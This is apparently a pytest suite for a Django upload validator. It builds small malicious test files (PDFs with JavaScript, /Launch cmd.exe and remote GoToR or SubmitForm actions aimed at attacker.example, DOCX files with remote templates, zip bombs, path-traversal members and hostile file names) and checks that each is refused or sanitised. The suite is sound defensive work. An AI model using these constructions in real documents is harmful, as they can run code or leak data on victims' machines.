"""Upload validation and storage: real tiny files built here, good and bad."""

from __future__ import annotations

import hashlib
import io
import struct
import unicodedata
import warnings
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from django import forms
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from PIL import Image
from pypdf import PdfReader, PdfWriter

from lift.core.files import (
    NAME_MAX,
    NAME_MAX_BYTES,
    EvidenceFileField,
    attachment_create,
    check_upload,
    sanitise_filename,
    validate_upload,
)
from lift.core.models import Agency, Attachment, Person


def build_pdf(
    objects: dict[int, bytes], *, packed: frozenset[int] = frozenset(), unlisted: int = 0
) -> bytes:
    """A PDF from numbered object bodies (object 1 is the catalog), its cross-reference data
    correct. Objects in `packed` go into one compressed object stream, and the
    cross-reference data are then a compressed stream too; `unlisted` more objects from
    `packed` (the highest numbers) are in the object stream but not named by the
    cross-reference data."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    size = max(objects) + 1
    assert sorted(objects) == list(range(1, size))

    def write(number: int, body: bytes) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    for number, body in sorted(objects.items()):
        if number not in packed:
            write(number, body)
    if not packed:
        start = len(out)
        out.extend(b"xref\n0 %d\n0000000000 65535 f \n" % size)
        for number in range(1, size):
            out.extend(b"%010d 00000 n \n" % offsets[number])
        out.extend(b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, start))
        return bytes(out)
    stream, xref = size, size + 1
    header, body = [], bytearray()
    for number in sorted(packed):
        header.append(b"%d %d" % (number, len(body)))
        body.extend(objects[number] + b"\n")
    index = b" ".join(header) + b"\n"
    data = zlib.compress(index + bytes(body))
    write(
        stream,
        b"<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream"
        % (len(packed), len(index), len(data), data),
    )
    offsets[xref] = len(out)
    hidden = set(sorted(packed)[len(packed) - unlisted :]) if unlisted else set()
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    ordinal = {n: i for i, n in enumerate(sorted(packed))}
    for number in range(1, xref + 1):
        if number in hidden:
            rows.append(struct.pack(">BIH", 0, 0, 0))
        elif number in packed:
            rows.append(struct.pack(">BIH", 2, stream, ordinal[number]))
        else:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
    table = zlib.compress(b"".join(rows))
    write(
        xref,
        b"<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>\n"
        b"stream\n%s\nendstream" % (xref + 1, len(table), table),
    )
    out.extend(b"startxref\n%d\n%%%%EOF\n" % offsets[xref])
    return bytes(out)


def page_objects(catalog_extra: bytes = b"", page_extra: bytes = b"") -> dict[int, bytes]:
    """A one-page document: catalog, pages, page, contents, font."""
    text = b"BT /F1 12 Tf 72 720 Td (Fictional minutes) Tj ET"
    return {
        1: b"<</Type/Catalog/Pages 2 0 R" + catalog_extra + b">>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
        b"/Resources<</Font<</F1 5 0 R>>>>" + page_extra + b">>",
        4: b"<</Length %d>>\nstream\n%s\nendstream" % (len(text), text),
        5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }


PDF = build_pdf(page_objects())
PACKED = frozenset({1, 2, 3, 5})  # every object but the content stream


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> Any:
    return SimpleUploadedFile(name, content, content_type=content_type)


def png_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 4), (29, 112, 184)).save(out, format="PNG")
    return out.getvalue()


def jpeg_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 4), (0, 112, 60)).save(out, format="JPEG")
    return out.getvalue()


def docx_bytes() -> bytes:
    doc = Document()
    doc.add_heading("Practice review notes", level=1)
    doc.add_paragraph("Fictional content for a test.")
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def xlsx_bytes() -> bytes:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["Agency", "Returns"])
    ws.append(["Testshire Police", 4])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def odt_bytes(mimetype: str = "application/vnd.oasis.opendocument.text") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        z.writestr("content.xml", "<office:document-content/>")
    return out.getvalue()


# --- accepted ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "make", "media_type"),
    [
        ("minutes.pdf", lambda: PDF, "application/pdf"),
        ("chart.png", png_bytes, "image/png"),
        ("photo.JPG", jpeg_bytes, "image/jpeg"),
        (
            "notes.docx",
            docx_bytes,
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            "returns.xlsx",
            xlsx_bytes,
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        ("notes.odt", odt_bytes, "application/vnd.oasis.opendocument.text"),
        ("data.csv", lambda: "\ufeffname,count\nCafé,3\n".encode(), "text/csv"),
        ("readme.txt", lambda: b"Plain words.\n", "text/plain"),
    ],
)
def test_good_files_pass_with_media_type_from_the_content_check(
    name: str, make: Any, media_type: str
) -> None:
    content = make()
    got_type, sha = validate_upload(upload(name, content, "text/html"))
    assert got_type == media_type
    assert sha == hashlib.sha256(content).hexdigest()


# --- refused ----------------------------------------------------------------------------


def refused(name: str, content: bytes) -> str:
    with pytest.raises(ValidationError) as info:
        validate_upload(upload(name, content))
    return " ".join(info.value.messages)


def test_pdf_that_is_really_html_is_refused() -> None:
    assert "not a real PDF" in refused("report.pdf", b"<!doctype html><html><body>x</body>")


ACTIVE_PDF = "contains JavaScript or actions that run when it is opened"


def test_pdf_with_javascript_is_refused() -> None:
    bad = build_pdf(page_objects(b"/OpenAction<</S/JavaScript/JS(x)>>"))
    assert ACTIVE_PDF in refused("report.pdf", bad)


def stored_files(agency: Agency) -> list[str]:
    try:
        return default_storage.listdir(f"attachments/{agency.partnership_id}")[1]
    except FileNotFoundError:
        return []


def refused_and_not_stored(name: str, content: bytes, agency: Agency) -> str:
    """The upload is refused through attachment_create, and nothing is stored."""
    before = stored_files(agency)
    with pytest.raises(ValidationError) as info:
        attachment_create(
            subject=agency, uploaded_file=upload(name, content), uploaded_by=business_unit(agency)
        )
    assert not Attachment.objects.exists()
    assert stored_files(agency) == before
    return " ".join(info.value.messages)


def business_unit(agency: Agency) -> Person:
    """Someone to upload as, so that only the file can be why an upload is refused."""
    return Person.objects.first() or Person.objects.create(
        email="uploader@example.org", full_name="Test Uploader"
    )


def accepted(name: str, content: bytes, agency: Agency) -> None:
    attachment = attachment_create(
        subject=agency, uploaded_file=upload(name, content), uploaded_by=business_unit(agency)
    )
    with attachment.file.open("rb") as f:
        assert f.read() == content


# Each was accepted before issue 17 (item 6): the old check looked for a few names in the
# raw bytes only.
@pytest.mark.parametrize(
    ("objects", "packed"),
    [
        # A name escape: /J#61vaScript is /JavaScript, /J#53 is /JS.
        (page_objects(b"/OpenAction 6 0 R"), None),
        # JavaScript in a compressed object stream, opened by the catalog's /OpenAction.
        (page_objects(b"/OpenAction 6 0 R"), PACKED | {6}),
        # A /Launch action run by the page when it opens, in an object stream.
        (page_objects(page_extra=b"/AA<</O 6 0 R>>"), PACKED | {6}),
        # Document-level JavaScript in the names tree, in an object stream.
        (page_objects(b"/Names 6 0 R"), PACKED | {6}),
    ],
    ids=["name-escape", "object-stream-javascript", "object-stream-launch", "names-tree"],
)
def test_pdf_active_content_hidden_from_a_byte_scan_is_refused(
    objects: dict[int, bytes], packed: frozenset[int] | None, agency: Agency, request: Any
) -> None:
    action = {
        "name-escape": b"<</S/J#61vaScript/J#53(app.alert(1))>>",
        "object-stream-javascript": b"<</S/JavaScript/JS(app.alert(1))>>",
        "object-stream-launch": b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
        "names-tree": b"<</JavaScript<</Names[(x)<</S/JavaScript/JS(app.alert(1))>>]>>>>",
    }[request.node.callspec.id]
    content = build_pdf({**objects, 6: action}, packed=packed or frozenset())
    assert ACTIVE_PDF in refused_and_not_stored("minutes.pdf", content, agency)


@pytest.mark.parametrize(
    "extra",
    [
        b"/OpenAction<</S/L#61unch/F(cmd.exe)>>",
        b"/OpenAction<</S/GoToR/F(\\\\attacker.example\\share\\x.pdf)/D[0/Fit]>>",
        b"/OpenAction<</S/GoToE/T<</R/C/N(x)>>/D[0/Fit]>>",
        b"/OpenAction<</S/SubmitForm/F<</FS/URL/F(https://attacker.example/)>>>>",
        b"/OpenAction<</S/ImportData/F(data.fdf)>>",
        b"/OpenAction<</S/URI/URI(javascript:app.alert(1))>>",
        b"/OpenAction<</S/URI/URI(file:///C:/Windows/System32/calc.exe)>>",
        b"/Names<</EmbeddedFiles<</Names[(a.exe)6 0 R]>>>>",
        b"/AcroForm<</Fields[]/XFA 6 0 R>>",
        b"/OpenAction<</S/RichMediaExecute/TA 6 0 R>>",
    ],
    ids=[
        "launch-escaped",
        "gotor-remote",
        "gotoe",
        "submit-form",
        "import-data",
        "uri-javascript",
        "uri-file",
        "embedded-file",
        "xfa",
        "rich-media",
    ],
)
@pytest.mark.parametrize("packed", [frozenset(), PACKED], ids=["plain", "object-stream"])
def test_pdf_actions_that_run_programs_or_fetch_files_are_refused(
    extra: bytes, packed: frozenset[int], agency: Agency
) -> None:
    objects = {**page_objects(extra), 6: b"<<>>"}
    content = build_pdf(objects, packed=packed)
    assert ACTIVE_PDF in refused_and_not_stored("minutes.pdf", content, agency)


def test_pdf_javascript_in_an_object_stream_but_not_in_the_cross_reference_is_refused(
    agency: Agency,
) -> None:
    # A reader rebuilding a damaged file could still find it: the raw check reads the
    # decompressed object stream too.
    objects = {**page_objects(), 6: b"<</S/JavaScript/JS(app.alert(1))>>"}
    content = build_pdf(objects, packed=PACKED | {6}, unlisted=1)
    assert b"JavaScript" not in content
    assert ACTIVE_PDF in refused_and_not_stored("minutes.pdf", content, agency)


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\nnot really a PDF at all\n%%EOF\n",
        PDF[: len(PDF) // 2],  # cut short
        PDF.replace(b"startxref\n", b"startxref\n9"),  # cross-reference data elsewhere
        build_pdf(page_objects(b"/Outlines 9 0 R")),  # refers to an object that is not there
    ],
    ids=["garbage", "truncated", "bad-startxref", "missing-object"],
)
def test_pdf_that_cannot_be_parsed_is_refused(content: bytes, agency: Agency) -> None:
    assert "could not be read as a PDF" in refused_and_not_stored("minutes.pdf", content, agency)


def encrypted_pdf(user_password: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(PDF)))
    writer.encrypt(user_password, "owner-secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_pdf_with_a_password_is_refused(agency: Agency) -> None:
    message = refused_and_not_stored("minutes.pdf", encrypted_pdf("open-secret"), agency)
    assert "protected with a password" in message


def test_pdf_encrypted_without_an_opening_password_is_checked_and_accepted(
    agency: Agency, business_unit: Person
) -> None:
    accepted("minutes.pdf", encrypted_pdf(""), agency)


def weasyprint_pdf(html: str) -> bytes:
    import weasyprint

    return bytes(weasyprint.HTML(string=html).write_pdf())


@pytest.mark.parametrize(
    "make",
    [
        lambda: PDF,
        lambda: build_pdf(page_objects(), packed=PACKED),
        lambda: build_pdf(page_objects(b"/OpenAction[3 0 R/Fit]"), packed=PACKED),
        lambda: weasyprint_pdf("<h1>Minutes</h1><p>Fictional.</p>"),
        lambda: weasyprint_pdf(
            '<p><a href="https://developer.mozilla.org/en-US/docs/Web/JavaScript">A link</a>'
            " about /JavaScript and /Launch, in words.</p>"
        ),
    ],
    ids=["plain", "object-stream", "open-at-page", "weasyprint", "weasyprint-link"],
)
def test_clean_pdfs_are_accepted(
    make: Callable[[], bytes], agency: Agency, business_unit: Person
) -> None:
    content = make()
    if "weasyprint" in content[:4096].decode("latin-1").lower() or b"/ObjStm" in content:
        assert b"/ObjStm" in content  # WeasyPrint packs objects in object streams
    accepted("minutes.pdf", content, agency)


def test_svg_with_script_is_refused_by_extension() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    assert "must be a" in refused("logo.svg", svg)


def test_svg_renamed_to_png_is_refused() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    assert "not a real PNG" in refused("logo.png", svg)


@pytest.mark.parametrize("name", ["page.html", "run.exe", "script.js", "report.pdf.exe", "x"])
def test_disallowed_extensions_are_refused(name: str) -> None:
    assert "must be a" in refused(name, b"MZ\x90\x00")


def test_text_with_a_script_is_refused() -> None:
    assert "script" in refused("notes.txt", b"hello <script>alert(1)</script>")


def test_csv_in_another_encoding_is_refused_with_a_hint() -> None:
    assert "UTF-8" in refused("data.csv", "name\nCafé £5\n".encode("cp1252"))


def test_text_with_nul_bytes_is_refused() -> None:
    assert "binary" in refused("data.csv", b"a,b\n\x00\x01,2\n")


def test_zip_bomb_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", b"\0" * (30 * 1024 * 1024))
    assert len(out.getvalue()) < 100_000
    assert "expands" in refused("big.docx", out.getvalue())


def test_zip_with_too_many_entries_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("lift.core.files.ZIP_MAX_ENTRIES", 3)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w/>")
        for i in range(3):
            z.writestr(f"word/media/{i}.xml", "<x/>")
    assert "expands" in refused("many.docx", out.getvalue())


def test_zip_that_is_not_the_claimed_office_type_is_refused() -> None:
    assert "not a real DOCX" in refused("sheet.docx", xlsx_bytes())
    assert "not a real ODS" in refused("notes.ods", odt_bytes())


def test_macro_enabled_document_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr(
            "[Content_Types].xml",
            '<Types><Override ContentType="'
            'application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        )
        z.writestr("word/document.xml", "<w/>")
        z.writestr("word/vbaProject.bin", b"\x01\x02")
    assert "macros" in refused("letter.docx", out.getvalue())


def rezip(content: bytes, add: dict[str, bytes], replace: dict[str, bytes] | None = None) -> bytes:
    """A copy of a zip package with parts added or replaced."""
    replace = replace or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as src,
        zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            dst.writestr(info.filename, replace.get(info.filename, src.read(info.filename)))
        for name, data in add.items():
            dst.writestr(name, data)
    return out.getvalue()


OFFICE_PROGRAMS = "contains macros, ActiveX controls or embedded programs"


def with_activex() -> bytes:
    types = zipfile.ZipFile(io.BytesIO(docx_bytes())).read("[Content_Types].xml")
    types = types.replace(
        b"</Types>",
        b'<Override PartName="/word/activeX/activeX1.xml" '
        b'ContentType="application/vnd.ms-office.activeX+xml"/></Types>',
    )
    return rezip(
        docx_bytes(),
        {
            "word/activeX/activeX1.xml": b'<ax:ocx ax:classid="{8BD21D40-EC42-11CE-9E0D}"/>',
            "word/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0",
        },
        {"[Content_Types].xml": types},
    )


@pytest.mark.parametrize(
    "make",
    [
        with_activex,
        # Only the part, not its content type.
        lambda: rezip(docx_bytes(), {"word/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0"}),
        lambda: rezip(xlsx_bytes(), {"xl/activeX/activeX1.xml": b"<ax:ocx/>"}),
        lambda: rezip(docx_bytes(), {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    ],
    ids=["docx-activex", "docx-activex-part-only", "xlsx-activex", "docx-ole-object"],
)
def test_office_file_with_activex_or_ole_programs_is_refused(
    make: Callable[[], bytes], agency: Agency
) -> None:
    content = make()
    is_xlsx = "xl/workbook.xml" in zipfile.ZipFile(io.BytesIO(content)).namelist()
    name = "sheet.xlsx" if is_xlsx else "letter.docx"
    assert OFFICE_PROGRAMS in refused_and_not_stored(name, content, agency)


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def with_relationship(part: str, kind: str, target: str, mode: str = "External") -> bytes:
    relationship = (
        f'<Relationship Id="rId99" Type="{REL}{kind}" Target="{target}" TargetMode="{mode}"/>'
    ).encode()
    base = docx_bytes()
    with zipfile.ZipFile(io.BytesIO(base)) as z:
        if part in z.namelist():
            old = z.read(part)
            new = old.replace(b"</Relationships>", relationship + b"</Relationships>")
            return rezip(base, {}, {part: new})
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + relationship
        + b"</Relationships>"
    )
    return rezip(base, {part: rels})


@pytest.mark.parametrize(
    ("part", "kind", "target"),
    [
        ("word/_rels/settings.xml.rels", "attachedTemplate", "https://attacker.example/t.dotm"),
        ("word/_rels/settings.xml.rels", "attachedTemplate", "file://attacker.example/s/t.dotm"),
        ("word/_rels/document.xml.rels", "oleObject", "https://attacker.example/o.bin"),
        ("word/_rels/webSettings.xml.rels", "frame", "https://attacker.example/f.html"),
        ("word/_rels/document.xml.rels", "subDocument", "https://attacker.example/s.docx"),
        ("word/_rels/document.xml.rels", "image", "\\\\attacker.example\\share\\i.png"),
    ],
    ids=["template", "template-file", "ole-object", "frame", "sub-document", "remote-image"],
)
def test_docx_with_a_remote_template_or_part_is_refused(
    part: str, kind: str, target: str, agency: Agency
) -> None:
    content = with_relationship(part, kind, target)
    message = refused_and_not_stored("letter.docx", content, agency)
    assert "links to a template or content elsewhere" in message


def test_docx_relationships_with_a_doctype_are_refused(agency: Agency) -> None:
    rels = (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x "y">]>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
    )
    content = rezip(docx_bytes(), {"word/_rels/settings.xml.rels": rels})
    assert "damaged" in refused_and_not_stored("letter.docx", content, agency)


def test_odt_with_basic_macros_is_refused(agency: Agency) -> None:
    content = rezip(odt_bytes(), {"Basic/Standard/Module1.xml": b"<script:module/>"})
    assert OFFICE_PROGRAMS in refused_and_not_stored("notes.odt", content, agency)


def patch_declared_size(content: bytes, member: str, size: int, crc: int | None = None) -> bytes:
    """Make the local and central headers of `member` declare `size` (and `crc`)."""
    data = bytearray(content)
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        info = z.getinfo(member)
    local = info.header_offset
    assert data[local : local + 4] == b"PK\x03\x04"
    struct.pack_into("<I", data, local + 22, size)
    if crc is not None:
        struct.pack_into("<I", data, local + 14, crc)
    position = 0
    while (position := data.find(b"PK\x01\x02", position)) >= 0:
        name_length = struct.unpack_from("<H", data, position + 28)[0]
        if bytes(data[position + 46 : position + 46 + name_length]) == member.encode():
            struct.pack_into("<I", data, position + 24, size)
            if crc is not None:
                struct.pack_into("<I", data, position + 16, crc)
            break
        position += 4
    else:
        raise AssertionError(member)
    return bytes(data)


@pytest.mark.parametrize("fix_crc", [False, True], ids=["declared-size", "declared-size-and-crc"])
def test_zip_whose_declared_sizes_lie_is_refused(fix_crc: bool, agency: Agency) -> None:
    body = b"<w:document/>" + b" " * (5 * 1024 * 1024)
    content = rezip(docx_bytes(), {}, {"word/document.xml": body})
    lying = patch_declared_size(
        content, "word/document.xml", 1000, zlib.crc32(body[:1000]) if fix_crc else None
    )
    with zipfile.ZipFile(io.BytesIO(lying)) as z:
        assert z.getinfo("word/document.xml").file_size == 1000
    assert "expands" in refused_and_not_stored("letter.docx", lying, agency)


def test_zip_with_a_member_shorter_than_declared_is_refused(agency: Agency) -> None:
    body = b"<w:document/>" + b" " * 4000
    content = rezip(docx_bytes(), {}, {"word/document.xml": body})
    lying = patch_declared_size(content, "word/document.xml", 9000)
    assert "damaged" in refused_and_not_stored("letter.docx", lying, agency)


def zip_with(entries: list[tuple[str | zipfile.ZipInfo, bytes]]) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names
        with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as z:
            z.writestr("[Content_Types].xml", "<Types/>")
            z.writestr("word/document.xml", "<w/>")
            for name, data in entries:
                z.writestr(name, data)
    return out.getvalue()


def mark_encrypted(content: bytes, member: str) -> bytes:
    """Set the "encrypted" flag of `member` in its local and central headers."""
    data = bytearray(content)
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        local = z.getinfo(member).header_offset
    data[local + 6] |= 0x1
    position = 0
    while (position := data.find(b"PK\x01\x02", position)) >= 0:
        name_length = struct.unpack_from("<H", data, position + 28)[0]
        if bytes(data[position + 46 : position + 46 + name_length]) == member.encode():
            data[position + 8] |= 0x1
        position += 4
    return bytes(data)


@pytest.mark.parametrize(
    ("entries", "message"),
    [
        ([("word/document.xml", b"<other/>")], "damaged"),
        ([("WORD/Document.xml", b"<other/>")], "damaged"),
        ([("../../evil.xml", b"<x/>")], "damaged"),
        ([("/etc/evil.xml", b"<x/>")], "damaged"),
        ([("word/..\\..\\evil.xml", b"<x/>")], "damaged"),
    ],
    ids=["duplicate", "duplicate-case", "climbs-out", "absolute", "backslashes"],
)
def test_zip_with_hostile_members_is_refused(
    entries: list[tuple[Any, bytes]], message: str, agency: Agency
) -> None:
    assert message in refused_and_not_stored("letter.docx", zip_with(entries), agency)


def test_zip_with_an_encrypted_member_is_refused(agency: Agency) -> None:
    content = mark_encrypted(
        zip_with([("word/media/image1.png", b"\x00" * 20)]), "word/media/image1.png"
    )
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        assert z.getinfo("word/media/image1.png").flag_bits & 0x1
    assert "protected with a password" in refused_and_not_stored("letter.docx", content, agency)


def test_clean_office_files_are_accepted(agency: Agency, business_unit: Person) -> None:
    accepted("notes.docx", docx_bytes(), agency)
    accepted("returns.xlsx", xlsx_bytes(), agency)
    accepted("notes.odt", odt_bytes(), agency)
    # A hyperlink to a web page is the one outside relationship allowed.
    accepted(
        "links.docx",
        with_relationship("word/_rels/document.xml.rels", "hyperlink", "https://www.gov.uk/"),
        agency,
    )


def test_empty_file_is_refused() -> None:
    assert "empty" in refused("empty.pdf", b"")


def test_too_large_file_is_refused(settings: Any) -> None:
    settings.LIFT_MAX_UPLOAD_BYTES = 100
    assert "smaller than" in refused("big.pdf", PDF + b"%" + b"x" * 200)


def test_path_in_name_is_refused_without_an_allowed_extension() -> None:
    assert "must be a" in refused("../../etc/passwd", b"root:x:0:0\n")


# --- names ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\someone\\minutes.docx", "minutes.docx"),
        ("bad\x00na\x1bme\u202e.pdf", "badname.pdf"),
        ("...hidden.txt", "hidden.txt"),
        ("  spaced   out .csv ", "spaced out .csv"),
        ("..\\..\\..\\windows\\system32\\minutes.pdf", "minutes.pdf"),
        ("/etc/../../notes.txt", "notes.txt"),
        ("report.pdf:hidden.exe", "report.pdf_hidden.exe"),
        ('a<b>c"d|e?f*g.csv', "a_b_c_d_e_f_g.csv"),
        ("minutes.pdf. . ", "minutes.pdf"),
        ("CON.txt", "_CON.txt"),
        ("nul", "_nul"),
        ("console.txt", "console.txt"),
        ("line\nbreak\rand\ttab.txt", "linebreakandtab.txt"),
        ("\u200bzero\u200dwidth\ufeff.pdf", "zerowidth.pdf"),
        ("evil\u202etxt.exe", "eviltxt.exe"),
        ("private\ue000use.pdf", "privateuse.pdf"),
        ("../..", ""),
        ("\x00\x01\x02", ""),
        ("...", ""),
        ("", ""),
    ],
)
def test_sanitise_filename(raw: str, clean: str) -> None:
    assert sanitise_filename(raw) == clean


def test_long_names_keep_their_extension() -> None:
    name = sanitise_filename("a" * 400 + ".pdf")
    assert len(name) == 200
    assert name.endswith(".pdf")


def test_long_multibyte_names_fit_in_255_bytes_and_cut_between_characters() -> None:
    name = sanitise_filename("\U0001f4c4" * 150 + ".docx")  # four bytes each
    assert name.endswith(".docx")
    assert len(name.encode("utf-8")) <= NAME_MAX_BYTES
    assert name == "\U0001f4c4" * ((NAME_MAX_BYTES - 5) // 4) + ".docx"


def test_long_names_never_end_on_a_combining_mark_cut_from_its_letter() -> None:
    name = sanitise_filename("e\u0301" * 300)  # NFC makes each pair one two-byte character
    assert name == "\u00e9" * (NAME_MAX_BYTES // 2)
    decomposed = sanitise_filename("q\u0307" * 150 + ".txt")  # no precomposed form
    assert decomposed.endswith("q.txt") or not unicodedata.combining(decomposed[-5])
    assert len(decomposed) <= NAME_MAX


def test_long_name_without_a_usable_extension_is_cut() -> None:
    assert sanitise_filename("b" * 500) == "b" * NAME_MAX
    assert sanitise_filename("c" * 300 + "." + "x" * 40) == "c" * NAME_MAX


@settings(max_examples=300)
@given(st.text(min_size=0, max_size=600))
def test_sanitised_names_are_always_safe(raw: str) -> None:
    name = sanitise_filename(raw)
    assert "/" not in name and "\\" not in name
    assert not any(unicodedata.category(ch).startswith("C") for ch in name)
    assert not any(ch in '<>:"|?*' for ch in name)
    assert not name.startswith(".") and name == name.strip() and not name.endswith(".")
    assert len(name) <= NAME_MAX and len(name.encode("utf-8")) <= NAME_MAX_BYTES
    assert ".." not in name.split("/")
    assert sanitise_filename(name) == name  # stable: sanitising twice changes nothing


class RawNamed(io.BytesIO):
    """A file whose name is exactly what a hostile client sent (Django's UploadedFile
    already drops folders, an API client or a service caller may not)."""

    def __init__(self, name: str, content: bytes) -> None:
        super().__init__(content)
        self.name = name


@pytest.mark.parametrize(
    "raw",
    [
        "../../../../etc/cron.d/minutes.pdf",
        "..\\..\\boot.ini\\minutes.pdf",
        "/var/lib/lift/media/attachments/1/minutes.pdf",
        "min\x00utes\x1b[31m.pdf",
        "minutes.pdf\n\r",
    ],
)
def test_hostile_names_never_reach_storage(raw: str, agency: Agency, business_unit: Person) -> None:
    attachment = attachment_create(
        subject=agency, uploaded_file=RawNamed(raw, PDF), uploaded_by=business_unit
    )
    assert attachment.original_name == sanitise_filename(raw)
    assert attachment.original_name.startswith("min") and attachment.original_name.endswith(".pdf")
    assert not any(unicodedata.category(ch).startswith("C") for ch in attachment.original_name)
    stored = attachment.file.name
    assert stored.startswith(f"attachments/{agency.partnership_id}/")
    assert ".." not in stored and "minutes" not in stored
    assert len(stored.rsplit("/", 1)[-1]) == 32  # a random hex name


@pytest.mark.parametrize("raw", ["../..", "\x00\x01", "...", "CON", "passwd.pdf\x00.exe"])
def test_names_with_nothing_usable_left_are_refused_and_nothing_stored(
    raw: str, agency: Agency
) -> None:
    with pytest.raises(ValidationError) as exc:
        attachment_create(subject=agency, uploaded_file=RawNamed(raw, PDF), uploaded_by=None)
    assert "must be a" in " ".join(exc.value.messages)
    assert not Attachment.objects.exists()


# --- storing ----------------------------------------------------------------------------


def test_attachment_create_stores_the_file_under_a_random_name(
    agency: Agency, business_unit: Person
) -> None:
    attachment = attachment_create(
        subject=agency,
        uploaded_file=upload("../../etc/minutes.pdf", PDF),
        uploaded_by=business_unit,
        description=" Board minutes ",
    )
    attachment.refresh_from_db()
    assert attachment.partnership == agency.partnership
    assert attachment.subject == agency
    assert attachment.original_name == "minutes.pdf"
    assert attachment.media_type == "application/pdf"
    assert attachment.size == len(PDF)
    assert attachment.description == "Board minutes"
    assert "minutes" not in attachment.file.name
    assert attachment.file.name.startswith(f"attachments/{agency.partnership_id}/")
    with attachment.file.open("rb") as f:
        assert f.read() == PDF


def test_attachment_create_stores_nothing_on_failure(agency: Agency) -> None:
    with pytest.raises(ValidationError):
        attachment_create(
            subject=agency,
            uploaded_file=upload("x.pdf", b"<html>"),
            uploaded_by=None,
        )
    assert not Attachment.objects.exists()


def test_check_upload_describes_the_file() -> None:
    checked = check_upload(upload("a/b/Report.PDF", PDF))
    assert (checked.name, checked.extension, checked.size) == ("Report.PDF", "pdf", len(PDF))


# --- form field -------------------------------------------------------------------------


class EvidenceForm(forms.Form):
    evidence = EvidenceFileField()


def test_evidence_field_accepts_a_good_file() -> None:
    form = EvidenceForm(data={}, files={"evidence": upload("notes.docx", docx_bytes())})
    assert form.is_valid(), form.errors
    assert form.cleaned_data["evidence"].lift_checked.extension == "docx"


def test_evidence_field_reports_a_bad_file() -> None:
    form = EvidenceForm(data={}, files={"evidence": upload("notes.pdf", b"<html>")})
    assert not form.is_valid()
    assert "not a real PDF" in form.errors["evidence"][0]
    assert 'accept=".csv' in str(form["evidence"])
